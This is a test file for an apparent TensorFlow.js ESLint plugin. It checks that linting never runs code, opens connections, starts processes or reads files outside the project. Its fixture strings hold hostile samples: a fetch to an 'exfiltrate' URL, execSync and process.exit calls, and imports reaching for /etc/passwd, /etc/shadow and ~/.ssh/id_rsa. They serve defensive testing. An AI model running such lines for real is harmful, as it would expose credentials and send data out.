/**
 * No side effects: linting never executes user code, never touches the network,
 * never starts a process, and reads no file outside the project.
 *
 * The test process's fs, net, http(s), dns, fetch, child_process and process.exit
 * are replaced by recorders (network, processes and exit also throw) while every
 * lint runs. The files linted try to leave the project: `../../../../etc/passwd`,
 * absolute paths, a symlinked file and a symlinked directory pointing outside.
 * Every path read must resolve (symlinks followed) inside the project directory or
 * inside the repository's node_modules (ESLint and the parsers loading themselves).
 * This stays meaningful once cross-file analysis reads imported files.
 */
import { Linter } from 'eslint';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createRequire, syncBuiltinESMExports } from 'node:module';
import os from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { render, specArbitrary } from './generator.js';
import { config, ROOT, writeSummary, type ParserName } from './harness.js';

const require = createRequire(import.meta.url);
type AnyModule = Record<string, unknown>;

const reads: string[] = [];
const forbidden: string[] = [];
let recording = false;
const restore: (() => void)[] = [];

function patch(
  mod: AnyModule,
  name: string,
  replacement: (original: (...a: unknown[]) => unknown) => (...a: unknown[]) => unknown,
): void {
  const original = mod[name] as ((...a: unknown[]) => unknown) | undefined;
  if (typeof original !== 'function') return;
  mod[name] = replacement(original);
  restore.push(() => {
    mod[name] = original;
  });
}

function pathOf(arg: unknown): string | undefined {
  if (typeof arg === 'string') return arg;
  if (arg instanceof URL) return arg.protocol === 'file:' ? arg.pathname : undefined;
  if (Buffer.isBuffer(arg)) return arg.toString();
  return undefined;
}

const FS_READS = [
  'readFileSync',
  'statSync',
  'lstatSync',
  'openSync',
  'existsSync',
  'readdirSync',
  'realpathSync',
  'accessSync',
  'readlinkSync',
  'opendirSync',
  'readFile',
  'stat',
  'lstat',
  'open',
  'readdir',
  'access',
  'createReadStream',
];
const FS_PROMISES = ['readFile', 'stat', 'lstat', 'open', 'readdir', 'access', 'realpath', 'opendir'];

function install(): void {
  const fs = require('node:fs') as AnyModule;
  for (const name of FS_READS) {
    patch(
      fs,
      name,
      (original) =>
        function (this: unknown, ...args: unknown[]) {
          const p = pathOf(args[0]);
          if (recording && p !== undefined) reads.push(path.resolve(p));
          return original.apply(this, args);
        },
    );
  }
  for (const name of FS_PROMISES) {
    patch(
      fs.promises as AnyModule,
      name,
      (original) =>
        function (this: unknown, ...args: unknown[]) {
          const p = pathOf(args[0]);
          if (recording && p !== undefined) reads.push(path.resolve(p));
          return original.apply(this, args);
        },
    );
  }
  const deny = (what: string) => (original: (...a: unknown[]) => unknown) =>
    function (this: unknown, ...args: unknown[]) {
      if (!recording) return original.apply(this, args);
      forbidden.push(what);
      throw new Error(`side-effects test: ${what} is not allowed while linting`);
    };
  const net = require('node:net') as AnyModule;
  for (const name of ['connect', 'createConnection', 'createServer']) patch(net, name, deny(`net.${name}`));
  patch((net.Socket as { prototype: AnyModule }).prototype, 'connect', deny('net.Socket#connect'));
  for (const mod of ['node:http', 'node:https', 'node:http2']) {
    const m = require(mod) as AnyModule;
    for (const name of ['request', 'get', 'connect', 'createServer']) patch(m, name, deny(`${mod}.${name}`));
  }
  const dns = require('node:dns') as AnyModule;
  for (const name of ['lookup', 'resolve', 'resolve4', 'resolve6', 'resolveAny', 'reverse'])
    patch(dns, name, deny(`dns.${name}`));
  for (const name of ['lookup', 'resolve', 'resolve4', 'resolve6'])
    patch(dns.promises as AnyModule, name, deny(`dns.promises.${name}`));
  patch(globalThis as unknown as AnyModule, 'fetch', deny('fetch'));
  const cp = require('node:child_process') as AnyModule;
  for (const name of ['exec', 'execSync', 'execFile', 'execFileSync', 'spawn', 'spawnSync', 'fork'])
    patch(cp, name, deny(`child_process.${name}`));
  patch(process as unknown as AnyModule, 'exit', deny('process.exit'));
  patch(process as unknown as AnyModule, 'kill', deny('process.kill'));
  // Named ESM imports of builtins (`import {readFileSync} from 'node:fs'`) follow the patched objects.
  syncBuiltinESMExports();
}

function uninstall(): void {
  while (restore.length) restore.pop()!();
  syncBuiltinESMExports();
}

describe('linting has no side effects', () => {
  let project: string;
  let outside: string;
  const marker = path.join(os.tmpdir(), `tfjs-lint-side-effect-${process.pid}`);
  const figures = { filesLinted: 0, pathsRead: 0, pathsReadOutside: 0, forbiddenCalls: 0 };

  beforeAll(() => {
    // A project, and a directory outside it that the project's files point into.
    project = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'tfjs-project-')));
    outside = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'tfjs-outside-')));
    writeFileSync(
      path.join(outside, 'secret.js'),
      `import * as tf from '@tensorflow/tfjs';\nexport const model = tf.sequential({layers: [tf.layers.dense({units: 3, activation: 'softmax'})]});\nexport default model;\n`,
    );
    mkdirSync(path.join(project, 'src'));
    writeFileSync(path.join(project, 'package.json'), '{"name": "p", "type": "module"}\n');
    writeFileSync(
      path.join(project, 'src', 'model.js'),
      `import * as tf from '@tensorflow/tfjs';\nexport function createModel() { return tf.sequential({layers: [tf.layers.dense({units: 3, activation: 'softmax'})]}); }\n`,
    );
    symlinkSync(path.join(outside, 'secret.js'), path.join(project, 'src', 'link.js'));
    symlinkSync(outside, path.join(project, 'linkdir'));
    install();
  });

  afterAll(() => {
    uninstall();
    rmSync(project, { recursive: true, force: true });
    rmSync(outside, { recursive: true, force: true });
    writeSummary('side-effects', figures);
  });

  const escape = (p: string) => p.replaceAll('\\', '/');
  const attempts = () => `import * as tf from '@tensorflow/tfjs';
import passwd from '../../../../../../../etc/passwd';
import abs from '/etc/passwd';
import * as outsideAbs from '${escape(path.join(outside, 'secret.js'))}';
import linked, {model as linkedModel} from './link.js';
import throughDir from '../linkdir/secret.js';
import {createModel} from './model.js';
import home from '~/.ssh/id_rsa';
const hosts = require('../../../../../../etc/hosts');
const shadow = require('/etc/shadow');
const dyn = await import('/etc/passwd');
for (const m of [passwd, abs, outsideAbs.model, linked, linkedModel, throughDir, createModel(), home, hosts, shadow, dyn]) {
  m.compile({optimizer: 'sgd', loss: tf.losses.softmaxCrossEntropy});
}
`;
  const hostile = `import * as tf from '@tensorflow/tfjs';
// Code that would do harm if it ran.
process.exit(3);
throw new Error('top-level throw');
require('child_process').execSync('touch ${escape(marker)}');
fetch('http://192.0.2.1/exfiltrate').then(() => {});
require('http').get('http://192.0.2.1/');
require('fs').writeFileSync('${escape(marker)}', 'x');
while (true) {}
const model = tf.sequential({layers: [tf.layers.dense({units: 3, activation: 'softmax'})]});
model.compile({optimizer: 'sgd', loss: tf.losses.softmaxCrossEntropy});
`;

  function lintAs(file: string, code: string, parser: ParserName = 'espree'): Linter.LintMessage[] {
    const linter = new Linter({ configType: 'flat', cwd: project });
    recording = true;
    try {
      return linter.verify(code, config({ parser, settings: { tfjs: { crossFile: true } } }), file);
    } finally {
      recording = false;
      figures.filesLinted += 1;
    }
  }

  it('never executes the code, starts a process or opens a connection', () => {
    for (const parser of ['espree', 'typescript'] as const) {
      const file = path.join(project, 'src', parser === 'typescript' ? 'hostile.ts' : 'hostile.js');
      const messages = lintAs(file, hostile, parser);
      // Linted like any other file (the softmax-twice bug in it is found), nothing ran.
      expect(messages.filter((m) => m.fatal)).toEqual([]);
      expect(messages.map((m) => m.ruleId)).toContain('tfjs/no-activation-before-logits-loss');
    }
    expect(existsSync(marker)).toBe(false);
    expect(forbidden).toEqual([]);
  });

  it('reads no file outside the project, whatever the imports say', () => {
    for (const parser of ['espree', 'typescript'] as const) {
      const file = path.join(project, 'src', parser === 'typescript' ? 'attempts.ts' : 'attempts.js');
      const messages = lintAs(file, attempts(), parser);
      expect(messages.filter((m) => m.fatal)).toEqual([]);
    }
  });

  it('lints the examples, generated programs and npm code without network or processes', () => {
    const examples = readdirSync(path.join(ROOT, 'examples'), { recursive: true, encoding: 'utf8' }).filter((f) =>
      /\.(js|ts)$/.test(f),
    );
    for (const f of examples) {
      const parser: ParserName = f.endsWith('.ts') ? 'typescript' : 'espree';
      lintAs(path.join(project, 'src', path.basename(f)), readFileSync(path.join(ROOT, 'examples', f), 'utf8'), parser);
    }
    for (const spec of fc.sample(specArbitrary, { numRuns: 200, seed: 7 }))
      lintAs(path.join(project, 'src', 'generated.js'), render(spec));
    for (const pkg of ['@tensorflow-models/speech-commands/dist', '@tensorflow-models/knn-classifier/dist']) {
      const dir = path.join(ROOT, 'node_modules', pkg);
      for (const f of readdirSync(dir).filter((n) => n.endsWith('.js') && !n.includes('.min.'))) {
        lintAs(path.join(project, 'src', f), readFileSync(path.join(dir, f), 'utf8'));
      }
    }
    expect(forbidden).toEqual([]);
  });

  it('every path read while linting is inside the project or the tools', () => {
    const allowed = [project + path.sep, path.join(ROOT, 'node_modules') + path.sep];
    const resolved = [...new Set(reads)].map((p) => {
      try {
        return realpathSync.native(p);
      } catch {
        return p; // does not exist: judged by its own path
      }
    });
    // The project directory itself is resolved (realpath) to bound the cross-file reader.
    const outsideReads = resolved.filter((p) => p !== project && !allowed.some((a) => p.startsWith(a)));
    figures.pathsRead = resolved.length;
    figures.pathsReadOutside = outsideReads.length;
    figures.forbiddenCalls = forbidden.length;
    expect(outsideReads).toEqual([]);
  });

  it('the recorders work (a read outside the project is seen, fetch is refused)', () => {
    const before = reads.length;
    recording = true;
    try {
      readFileSync(path.join(outside, 'secret.js'));
      expect(() => fetch('http://192.0.2.1/')).toThrow(/not allowed while linting/);
      expect(() => process.exit(0)).toThrow(/not allowed while linting/);
    } finally {
      recording = false;
    }
    expect(new Set(reads.slice(before))).toEqual(new Set([path.join(outside, 'secret.js')]));
    reads.length = before;
    forbidden.length = 0;
  });
});
